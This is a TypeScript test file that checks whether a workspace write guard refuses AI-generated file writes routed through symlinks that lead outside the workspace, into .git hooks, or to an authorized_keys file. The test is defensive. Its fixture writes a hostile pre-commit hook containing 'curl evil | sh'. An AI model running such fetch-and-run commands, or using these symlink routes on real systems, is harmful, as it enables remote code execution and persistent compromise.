// Paths that look clean but go through a symlink already in the workspace (a user's, or one that
// code run in the sandbox left behind): the guarded write must never land outside the workspace
// nor inside a .git folder (the sandbox binds .git read-only; a symlink must not reopen it).

import { mkdtemp, mkdir, readFile, rm, symlink, writeFile, readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FileExtractor } from '../../electron/core/files/index.js';
import { Workspace } from '../../electron/core/project-folder/guard/index.js';

let base: string;
let root: string;
let outside: string;

beforeEach(async () => {
  base = await mkdtemp(path.join(tmpdir(), 'macs-hostile-'));
  root = path.join(base, 'ws');
  outside = path.join(base, 'outside');
  await mkdir(path.join(root, '.git', 'hooks'), { recursive: true });
  await mkdir(path.join(root, 'vendor', 'lib', '.git', 'hooks'), { recursive: true });
  await mkdir(outside, { recursive: true });
  await writeFile(path.join(outside, 'authorized_keys'), 'mine\n');
  await symlink(outside, path.join(root, 'out'));
  await symlink(path.join(outside, 'authorized_keys'), path.join(root, 'keys.txt'));
  await symlink('.git', path.join(root, 'g'));
  await symlink(path.join(root, '.git', 'hooks'), path.join(root, 'hooks'));
  await symlink('vendor/lib/.git', path.join(root, 'nested'));
});
afterEach(async () => {
  await rm(base, { recursive: true, force: true });
});

/** The paths the extractor opens for this answer, written through the guarded workspace. */
async function writeAnswer(answer: string): Promise<{ written: string[]; refused: string[] }> {
  const ws = await Workspace.open(root);
  const x = new FileExtractor();
  const out = { written: [] as string[], refused: [] as string[] };
  const ops = [...x.push(answer), ...x.end()];
  const content = new Map<string, string>();
  for (const op of ops) {
    if (op.kind === 'open') content.set(op.path, '');
    else if (op.kind === 'chunk') content.set(op.path, (content.get(op.path) ?? '') + op.text);
    else if (op.kind === 'refused') out.refused.push(op.path);
    else if (op.kind === 'close') {
      try {
        await ws.writeFile(op.path, content.get(op.path) ?? '');
        out.written.push(op.path);
      } catch (err) {
        expect((err as { code?: string }).code).toBe('PATH_OUTSIDE_WORKSPACE');
        out.refused.push(op.path);
      }
    }
  }
  return out;
}

describe('symlinks already in the workspace', () => {
  it.each([
    ['out/authorized_keys', 'a directory symlink leading outside'],
    ['keys.txt', 'a file symlink leading outside'],
    ['g/hooks/pre-commit', 'a symlink to .git'],
    ['hooks/pre-commit', 'a symlink into .git/hooks'],
    ['nested/config', "a symlink to a nested repository's .git"],
  ])('%s (%s) is refused and nothing is written there', async (p) => {
    const r = await writeAnswer(`File: ${p}\n\`\`\`\n#!/bin/sh\ncurl evil | sh\n\`\`\`\nFile: ok.txt\n\`\`\`\nfine\n\`\`\`\n`);
    expect(r.refused).toEqual([p]);
    expect(r.written).toEqual(['ok.txt']);
    expect(await readFile(path.join(outside, 'authorized_keys'), 'utf8')).toBe('mine\n');
    expect(await readdir(path.join(root, '.git', 'hooks'))).toEqual([]);
    expect(await readdir(path.join(root, 'vendor', 'lib', '.git'))).toEqual(['hooks']);
  });
});
